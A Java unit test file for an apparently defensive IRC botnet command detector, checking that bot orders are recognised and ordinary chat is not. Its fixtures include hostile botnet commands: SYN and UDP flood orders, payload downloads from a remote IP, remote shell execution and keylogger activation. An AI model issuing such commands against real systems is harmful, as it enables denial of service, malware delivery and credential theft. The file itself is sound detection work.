package io.hark.decode.irc;

import static org.assertj.core.api.Assertions.assertThat;

import io.hark.Keyring;
import io.hark.decode.Rehearsal;
import io.hark.event.Side;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Orders of bots, and what people say.
class IrcBotsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                ".advscan lsass 200 5 0 -r -s",
                ".ddos.syn 192.0.2.7 80 100",
                "!udpflood 192.0.2.7 65500 60",
                ".download http://198.51.100.3/a.exe c:\\a.exe 1",
                "!* SH uname -a",
                "!abc* UNKNOWN 192.0.2.7 60",
                "!* GET http://198.51.100.3/x.sh /tmp/x.sh",
                "!bot @udpflood 192.0.2.7 80 60",
                "!u @portscan 192.0.2.0/24 445",
                ".keylog on",
                "\u000304.execute 1 c:\\x.exe",
                ".execute 0 calc.exe"
            })
    void an_order_is_one_by_its_verb_and_the_form_of_its_arguments(String text) {
        assertThat(BotOrder.of(text)).isNotNull();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!seen bob",
                ".help",
                "!download",
                "!dl http://example.test/talk.html",
                ".update the docs please",
                "!udp is fine for this",
                "-scan the page for me",
                "!scan 1 2 3",
                ".execute the plan",
                "!* hello all",
                "the udpflood 192.0.2.7 80 was bad",
                "http://example.test/a.exe",
                "...",
                ""
            })
    void what_people_say_to_each_other_and_to_harmless_bots_is_no_order(String text) {
        assertThat(BotOrder.of(text)).isNull();
    }

    @Test
    void nothing_is_told_of_a_chat_without_an_order() {
        Rehearsal<IrcBots.Session> chat = new Rehearsal<>(new IrcBots(), Keyring.EMPTY);
        chat.say(Side.ORIGINATOR, "NICK ann\r\nUSER ann 0 0 :Ann\r\nJOIN #tea\r\n");
        chat.say(Side.RESPONDER, ":irc.test 332 ann #tea :tea and cake\r\n");
        chat.say(Side.RESPONDER, ":bob!b@h PRIVMSG #tea :!seen ann\r\n");
        chat.say(Side.ORIGINATOR, "PRIVMSG #tea :here\r\n").end();
        assertThat(chat.said).isEmpty();
    }

    @Test
    void a_channel_is_told_from_the_first_order_on_and_others_are_not() {
        Rehearsal<IrcBots.Session> bot = new Rehearsal<>(new IrcBots(), Keyring.EMPTY);
        bot.say(Side.ORIGINATOR, "NICK x1\r\n");
        bot.say(Side.RESPONDER, ":a!a@h PRIVMSG #x :before\r\n");
        bot.say(Side.RESPONDER, ":boss!b@h PRIVMSG #X :.ddos.syn 192.0.2.7");
        bot.say(Side.RESPONDER, " 80 9\r\n:a!a@h PRIVMSG #tea :elsewhere\r\n");
        bot.say(Side.ORIGINATOR, "PRIVMSG #x :[DDOS]: flooding\r\nPRIVMSG boss :done\r\n").end();
        assertThat(bot.lines())
                .isEqualTo(
                        List.of(
                                "UNKNOWN the client calls itself x1",
                                "OPERATOR .ddos.syn 192.0.2.7 80 9",
                                "IMPLANT [DDOS]: flooding",
                                "IMPLANT done"));
    }

    @Test
    void what_is_no_irc_and_a_gap_are_survived() {
        Rehearsal<IrcBots.Session> any = new Rehearsal<>(new IrcBots(), Keyring.EMPTY);
        any.say(Side.RESPONDER, ": \r\n:\r\n \r\n@\r\n332\r\nPRIVMSG\r\nPRIVMSG a\r\n");
        any.gap(Side.RESPONDER, 5000);
        any.say(Side.RESPONDER, "rest\r\n:b!b@h PRIVMSG x :.ddos.syn 192.0.2.7 80 9\r\n").end();
        assertThat(any.lines()).isEqualTo(List.of("OPERATOR .ddos.syn 192.0.2.7 80 9"));
    }
}
